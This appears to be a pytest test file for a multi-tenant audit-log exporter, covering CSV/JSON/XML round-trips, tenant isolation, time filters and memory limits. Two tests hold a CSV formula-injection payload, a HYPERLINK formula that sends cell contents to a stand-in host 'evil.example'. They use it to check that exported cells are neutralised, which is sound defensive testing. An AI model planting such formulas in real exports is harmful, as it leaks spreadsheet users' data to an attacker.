"""Export in JSON, CSV and XML, parsed back; tenant isolation; time filters; constant memory."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
import tracemalloc
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from gateway.audit import FIELDS, GENESIS_HASH, AuditTrail, parse_time_bound, verify_records
from gateway.audit.export import CHUNK_SIZE, csv_cell, csv_value
from gateway.audit.record import build_record, encode_record, format_time
from gateway.audit.verify import iter_csv_records, iter_export_records
from gateway.state import StateStore, open_store
from tests.unit.audit.conftest import FakeClock, export_bytes, stored_records

XSI_NIL = "{http://www.w3.org/2001/XMLSchema-instance}nil"
AWKWARD = {
    "text": 'quotes " \' <tags> & ampersands, commas, "csv"\nnew line\r\ncrlf\ttab',
    "unicode": "Zoë 🚀 نستعليق",
    "control": "bell\x07 nul\x00 esc\x1b",
    "nonchar": "\ufffe\uffff",
    "nested": {"list": [1, 2.5, None, True], "deep": {"x": "y"}},
}


def parse_xml(data: bytes) -> ET.Element:
    return ET.fromstring(data)


async def fill_awkward(trail: AuditTrail, clock: FakeClock) -> None:
    await trail.record("auth.login", tenants=["acme"], actor="ali", request_id="r-1", details=AWKWARD)
    clock.advance(1)
    await trail.record("mfa.fail", tenants=["acme"], actor=None, details={})
    clock.advance(1)
    await trail.record(
        "admin.config", tenants=["acme"], actor='x<"&\r\n>', request_id="", incident="INC-1", details={"a": 1}
    )


async def test_json_export_parses_back_to_the_stored_records(
    trail: AuditTrail, store: StateStore, clock: FakeClock
) -> None:
    await fill_awkward(trail, clock)
    data = await export_bytes(trail, "acme", fmt="json")
    assert json.loads(data) == await stored_records(store, "acme")
    assert [list(r) for r in json.loads(data)] == [list(FIELDS)] * 3  # Appendix B order
    assert verify_records(json.loads(data)).ok


async def test_csv_export_parses_back(trail: AuditTrail, store: StateStore, clock: FakeClock) -> None:
    await fill_awkward(trail, clock)
    data = await export_bytes(trail, "acme", fmt="csv")
    reader = csv.DictReader(io.StringIO(data.decode(), newline=""))
    assert reader.fieldnames == list(FIELDS)
    rows = list(reader)
    records = await stored_records(store, "acme")
    assert [row["request_id"] for row in rows] == ["r-1", "", "'"]  # null empty, "" marked
    # The formula-safe mark undone and seq/details read as JSON: the stored records exactly, so
    # the whole chain verifies from the CSV (Appendix C: verify --file reads CSV exports).
    assert list(iter_csv_records(io.BytesIO(data))) == records
    assert verify_records(iter_export_records(io.BytesIO(data))).ok


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),  # the mark itself: so that undoing it is unambiguous
        ("", "'"),  # an empty string, apart from null
        (None, ""),
        ("alice", "alice"),
        ("a=b", "a=b"),
        (12, "12"),
    ],
)
def test_csv_cells_are_formula_safe_and_invertible(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell
    assert csv_value(cell) == (None if value is None else str(value))


async def test_xml_export_parses_back(trail: AuditTrail, store: StateStore, clock: FakeClock) -> None:
    await fill_awkward(trail, clock)
    data = await export_bytes(trail, "acme", fmt="xml")
    root = parse_xml(data)
    assert root.tag == "audit" and root.get("tenant") == "acme"
    records = await stored_records(store, "acme")
    assert len(root) == len(records)
    for element, rec in zip(root, records, strict=True):
        assert element.tag == "record" and element.get("seq") == str(rec["seq"])
        assert [child.tag for child in element] == list(FIELDS)
        for child in element:
            value = rec[child.tag]
            if value is None:
                assert child.get(XSI_NIL) == "true" and child.text is None
            elif child.tag == "details":
                assert json.loads(child.text or "") == value  # invalid XML chars escaped losslessly
            elif child.tag == "seq":
                assert int(child.text or "") == value
            else:
                assert (child.text or "") == value
    # Only the characters XML cannot carry were touched: control characters outside details.
    third = root[2].find("actor")
    assert third is not None and third.text == 'x<"&\r\n>'


async def test_xml_marks_characters_xml_cannot_carry(trail: AuditTrail) -> None:
    await trail.record("x", tenants=["acme"], actor="bell\x07end", details={"k": "\x01"})
    root = parse_xml(await export_bytes(trail, "acme", fmt="xml"))
    actor = root[0].find("actor")
    assert actor is not None and actor.text == "bell\\u0007end"
    details = root[0].find("details")
    assert details is not None and json.loads(details.text or "") == {"k": "\x01"}


@pytest.mark.parametrize("fmt", ["json", "csv", "xml"])
async def test_another_tenants_events_never_appear(trail: AuditTrail, clock: FakeClock, fmt: str) -> None:
    await trail.record("a.only", tenants=["acme"], actor="acme-user", details={"secret": "ACME-ONLY"})
    await trail.record("g.only", tenants=["globex"], actor="globex-user", details={"secret": "GLOBEX-ONLY"})
    await trail.record("tenant.mismatch", tenants=["globex", "acme"], actor="crosser", details={"s": "BOTH"})
    await trail.record("keys.rotate", tenants=["_system"], actor="ops", details={"secret": "SYSTEM-ONLY"})
    await trail.record("a.only", tenants=["acme2"], actor="acme2-user", details={"secret": "ACME2-ONLY"})
    data = await export_bytes(trail, "acme", fmt=fmt)
    assert b"ACME-ONLY" in data and b"BOTH" in data
    for foreign in (b"GLOBEX", b"globex-user", b"SYSTEM-ONLY", b"ACME2-ONLY", b"acme2-user"):
        assert foreign not in data
    assert data.count(b"globex") == 0  # not even the tenant field of the shared event


async def test_time_filters_are_inclusive(trail: AuditTrail, clock: FakeClock) -> None:
    start = clock.now  # 2026-11-27T19:02:40.123Z
    for i in range(10):
        await trail.record("e", tenants=["acme"], actor=str(i))
        clock.advance(60)

    async def seqs(**kwargs: Any) -> list[int]:
        return [r["seq"] for r in json.loads(await export_bytes(trail, "acme", **kwargs))]

    assert await seqs() == list(range(1, 11))
    assert await seqs(since=start + 120) == list(range(3, 11))
    assert await seqs(since="2026-11-27T19:04:40.123Z") == list(range(3, 11))
    assert await seqs(since="2026-11-27T19:04:40.124Z") == list(range(4, 11))
    assert await seqs(until="2026-11-27T19:04:40.123Z") == [1, 2, 3]
    assert await seqs(since="2026-11-28T00:05:40.123+05:00", until=str(int(start) + 300)) == [4, 5]
    assert await seqs(since=start + 1000) == []
    assert await seqs(since=start + 500, until=start) == []
    # The filter applies in all formats.
    assert (await export_bytes(trail, "acme", fmt="csv", since=start + 540)).count(b"\r\n") == 2
    root = parse_xml(await export_bytes(trail, "acme", fmt="xml", until=start))
    assert [r.get("seq") for r in root] == ["1"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        (1795806160, 1795806160.0),
        (1795806160.5, 1795806160.5),
        ("1795806160", 1795806160.0),
        ("1795806160.25", 1795806160.25),
        ("2026-11-27T19:02:40Z", 1795806160.0),
        ("2026-11-27t19:02:40.5z", 1795806160.5),
        ("2026-11-28T00:02:40+05:00", 1795806160.0),
        ("2026-11-27 19:02:40Z", 1795806160.0),
    ],
)
def test_parse_time_bound_accepts_rfc3339_and_unix_seconds(value: Any, expected: float | None) -> None:
    assert parse_time_bound(value) == expected


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("yesterday", "expected RFC 3339"),
        ("2026-11-27", "expected RFC 3339"),
        ("2026-11-27T19:02:40", "needs a UTC offset"),
        ("2026-13-27T19:02:40Z", "expected RFC 3339"),
        ("", "expected RFC 3339"),
        (True, "boolean"),
        (float("nan"), "out of range"),
        (1e20, "out of range"),
        ([1], "expected RFC 3339 or Unix seconds"),
    ],
)
def test_parse_time_bound_rejects_with_clear_message(value: Any, message: str) -> None:
    with pytest.raises(ValueError, match=message) as info:
        parse_time_bound(value, name="since")
    assert str(info.value).startswith("since: ")


async def test_export_checks_arguments_before_streaming(trail: AuditTrail) -> None:
    with pytest.raises(ValueError, match="format"):
        trail.export("acme", fmt="yaml")
    with pytest.raises(ValueError, match="until"):
        trail.export("acme", until="soon")
    with pytest.raises(ValueError, match="invalid tenant"):
        trail.export("a:b")


@pytest.mark.parametrize("fmt", ["json", "csv", "xml"])
async def test_empty_trail_exports_are_well_formed(trail: AuditTrail, fmt: str) -> None:
    data = await export_bytes(trail, "nobody", fmt=fmt)
    if fmt == "json":
        assert json.loads(data) == []
    elif fmt == "csv":
        assert list(csv.reader(io.StringIO(data.decode()))) == [list(FIELDS)]
    else:
        assert len(parse_xml(data)) == 0


async def test_chunks_are_bounded(trail: AuditTrail, clock: FakeClock) -> None:
    for i in range(300):
        await trail.record("e", tenants=["acme"], actor="a", details={"pad": "x" * 500, "i": i})
    chunks = [c async for c in trail.export("acme", fmt="xml")]
    assert len(chunks) > 2
    assert all(len(c) < CHUNK_SIZE + 2048 for c in chunks)
    assert len(parse_xml(b"".join(chunks))) == 300


def populate_directly(path: Path, tenant: str, count: int) -> None:
    """Write a real chain straight into the sqlite file: 200k store transactions (one fsync
    each) would take minutes, and this test is about the export side."""

    def rows() -> Iterator[tuple[str, int, bytes]]:
        prev = GENESIS_HASH
        for seq in range(1, count + 1):
            rec = build_record(
                seq=seq,
                time=format_time(1_700_000_000 + seq / 1000),
                tenant=tenant,
                event="api.call",
                actor=f"user-{seq % 97}",
                request_id=f"req-{seq}",
                incident=None,
                details={"path": "/api/inventory/items", "status": 200, "n": seq},
                prev_hash=prev,
            )
            prev = rec["hash"]
            yield f"audit:{tenant}", seq, encode_record(rec)

    db = sqlite3.connect(path / "state.sqlite3", isolation_level=None)
    db.execute("PRAGMA synchronous=OFF")  # test data: no need to wait for the disk
    db.execute("BEGIN")
    db.executemany("INSERT INTO log_records VALUES (?, ?, ?)", rows())
    db.execute("INSERT INTO log_heads VALUES (?, ?)", (f"audit:{tenant}", count))
    db.execute("COMMIT")
    db.close()


async def test_200k_record_export_streams_in_constant_memory(tmp_path: Path) -> None:
    count = 200_000
    path = tmp_path / "state"
    async with open_store(f"local:{path}") as store:
        populate_directly(path, "acme", count)
        trail = AuditTrail(store, spool_dir=tmp_path / "spool")
        started = time.monotonic()
        tracemalloc.start()
        try:
            total = records = 0
            last = b""
            async for chunk in trail.export("acme", fmt="json"):
                total += len(chunk)
                records += chunk.count(b'"seq":')
                last = chunk
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        elapsed = time.monotonic() - started
        assert records == count
        assert last.endswith(b"}\n]\n")
        assert total > 50 * 1024 * 1024  # the whole export is far bigger than...
        assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"  # ...what was held at once
        assert elapsed < 30
        trail.close()


async def test_spooled_time_is_kept_in_export(trail: AuditTrail, store: StateStore) -> None:
    await trail.record("e", tenants=["acme"], actor="a")
    (rec,) = await stored_records(store, "acme")
    assert orjson.loads(await export_bytes(trail, "acme"))[0]["time"] == rec["time"]


async def test_a_formula_actor_is_exported_as_text_and_the_csv_still_verifies(
    trail: AuditTrail, clock: FakeClock
) -> None:
    """Issue 14: a ``sub`` chosen by another tenant's IdP lands in this tenant's trail
    (tenant.mismatch) and must not run as a formula in the victim's spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    await trail.record("tenant.mismatch", tenants=["acme"], actor=formula, details={"claimed": "-1"})
    clock.advance(1)
    await trail.record("auth.login", tenants=["acme"], actor="'already quoted", details={})
    data = await export_bytes(trail, "acme", fmt="csv")
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert rows[0]["actor"] == "'" + formula and rows[1]["actor"] == "''already quoted"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert verify_records(iter_export_records(io.BytesIO(data))).ok
    tampered = data.replace(b"auth.login", b"auth.logout")
    result = verify_records(iter_export_records(io.BytesIO(tampered)))
    assert not result.ok and "hash" in (result.problem or "")
